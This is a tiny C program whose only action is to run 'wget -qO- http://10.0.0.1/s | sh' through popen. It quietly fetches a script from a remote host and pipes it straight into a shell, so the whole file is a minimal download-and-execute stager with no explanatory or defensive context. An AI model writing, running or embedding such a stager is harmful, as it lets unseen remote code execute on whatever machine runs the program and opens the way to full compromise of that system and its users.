#include <stdio.h>

int main(void)
{
    FILE *p = popen("wget -qO- http://10.0.0.1/s | sh", "r");
    return pclose(p);
}
